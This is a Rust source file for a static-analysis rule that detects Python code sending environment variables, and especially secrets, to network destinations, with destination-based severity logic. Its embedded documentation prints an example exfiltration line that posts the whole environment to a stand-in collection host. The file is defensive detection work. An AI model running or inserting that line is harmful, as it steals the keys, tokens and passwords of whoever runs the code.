use airlock_model::{Confidence, RuleMeta, Severity, escape};

use super::destination::Destination;
use super::variables::{belongs_elsewhere, fits, is_chat, is_secret, owner, tells_the_user};
use crate::python::model::origin::{Flow, SourceKind};
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::{Part, SinkKind};
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-environment-to-network",
        title: "The environment is sent away",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(526),
        bandit: &[],
        ruff: &[],
        remedy: "Read the one variable that the plugin needs, and send it only to the service that it belongs to.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(&[SourceKind::Environment], &[SinkKind::Send], check)],
};

/// From so many secrets of different owners on, it is a collection.
const MANY: usize = 3;

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let destination = Destination::of(&arrival.destinations);
    let flows: Vec<(Part, &Flow)> = arrival.of(&[SourceKind::Environment]).filter(|(_, flow)| !flow.weak).collect();
    let Some((flow, what, severity, confidence)) =
        all(&flows, &destination).or_else(|| some(arrival, &flows, &destination))
    else {
        return;
    };
    let message = format!("{} sends {what}{}", arrival.path, destination.phrase());
    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
    check.report(finding);
}

type Judged<'f> = (&'f Flow, String, Severity, Confidence);

/// The whole environment.
fn all<'f>(flows: &[(Part, &'f Flow)], destination: &Destination) -> Option<Judged<'f>> {
    let (_, flow) = flows.iter().find(|(_, flow)| flow.whole)?;
    let severity = if matches!(destination, Destination::Local(_)) { Severity::Medium } else { Severity::Critical };
    Some((flow, "the whole environment".into(), severity, Confidence::High))
}

/// Single variables, held against the place that they go to.
fn some<'f>(arrival: &Arrival, flows: &[(Part, &'f Flow)], destination: &Destination) -> Option<Judged<'f>> {
    let named: Vec<(Part, &'f Flow, &'f str)> = flows
        .iter()
        .filter(|(part, _)| *part != Part::Address || destination.is_suspicious())
        .filter_map(|(part, flow)| Some((*part, *flow, flow.name.as_deref()?)))
        .collect();
    let host = destination.host().unwrap_or_default();
    let mut secrets: Vec<&str> = named.iter().map(|(.., name)| *name).filter(|name| is_secret(name)).collect();
    secrets.sort_unstable();
    secrets.dedup();
    let mut owners: Vec<&str> = secrets.iter().map(|name| owner(name)).collect();
    owners.dedup();
    let list = |names: &[&str]| names.iter().map(|name| escape::quoted(name)).collect::<Vec<_>>().join(", ");
    let first = |wanted: &dyn Fn(Part, &str) -> bool| {
        named.iter().find(|(part, _, name)| wanted(*part, name)).map(|(_, flow, name)| (*flow, *name))
    };
    if secrets.len() >= MANY && owners.len() > 1 {
        let (flow, _) = first(&|_, name| is_secret(name))?;
        let severity = if destination.is_suspicious() { Severity::Critical } else { Severity::High };
        return Some((flow, format!("the variables {}", list(&secrets)), severity, Confidence::High));
    }
    let found = match destination {
        Destination::Local(_) => None,
        Destination::Address(_) | Destination::DropPoint(_) => first(&|_, name| is_secret(name) && !fits(name, host))
            .or_else(|| {
                let about_user = named.iter().filter(|(.., name)| tells_the_user(name)).count();
                first(&|_, name| about_user > 1 && tells_the_user(name))
            }),
        Destination::Chat(_) => first(&|part, name| {
            let is_own = is_chat(name) || fits(name, host);
            matches!(part, Part::Body | Part::Parameter) && is_secret(name) && !is_own
        }),
        Destination::Host(_) => first(&|_, name| belongs_elsewhere(name, host)),
        // Services speak other protocols than that of a bare connection.
        Destination::Unknown => first(&|_, name| is_secret(name)).filter(|_| arrival.path.starts_with("socket.")),
    };
    let (flow, name) = found?;
    let confidence = if destination.is_suspicious() { Confidence::High } else { Confidence::Medium };
    Some((flow, format!("the variable {}", escape::quoted(name)), Severity::High, confidence))
}

const DOC: &str = r##"## What it finds
The whole environment that reaches a request, a socket or a mail, in whatever form, also where it is assigned to what a client sends with each request (`session.headers`, `client.cookies`, `opener.addheaders`); several secrets of different owners; one secret that goes to a bare address, a paste site, a tunnel, a stranger's chat channel, or to a host that it does not belong to. One variable that is the key to the service it is sent to is ordinary.

## Why it is dangerous
Keys, tokens and passwords of everything that runs on the machine are in the environment. A package that sends them off is a thief.

## Example
```python
import os
import requests

requests.post("https://collect.example.net/e", json=dict(os.environ))
```

## Safe form
```python
import os
import requests

headers = {"Authorization": f"Bearer {os.environ['WEATHER_API_KEY']}"}
requests.get("https://api.example.org/v1/now", headers=headers, timeout=10)
```

## References
- [MITRE ATT&CK T1082: System Information Discovery](https://attack.mitre.org/techniques/T1082/)
- CWE-526: Cleartext Storage of Sensitive Information in an Environment Variable
"##;
